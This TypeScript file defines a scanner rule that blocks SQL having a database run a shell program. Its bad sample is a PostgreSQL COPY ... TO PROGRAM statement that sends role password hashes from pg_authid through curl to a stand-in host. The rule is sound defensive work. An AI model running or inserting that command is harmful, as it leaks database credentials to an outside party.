import { databaseCommands } from "../../detectors/database-commands.ts";
import { defineRule } from "../../engine/define-rule.ts";
import { ignoreSamples } from "../../filters/ignore-samples.ts";

export const databaseProgramRule = defineRule({
  family: "remote-control",
  id: "remote-control.database-runs-program",
  alias: "R06.database_runs_program",
  severity: "block",
  says: "A statement has the database run a program of its machine.",
  falsePositive: "An export by a database administrator.",
  bad: [
    {
      "scripts/run.sql":
        "COPY (SELECT rolname, rolpassword FROM pg_authid) TO PROGRAM 'curl -d @- https://unknown.example/x';\n",
    },
  ],
  good: [{ "scripts/run.sql": "COPY notes TO STDOUT WITH CSV;\n" }],
  run: ignoreSamples(databaseCommands),
});
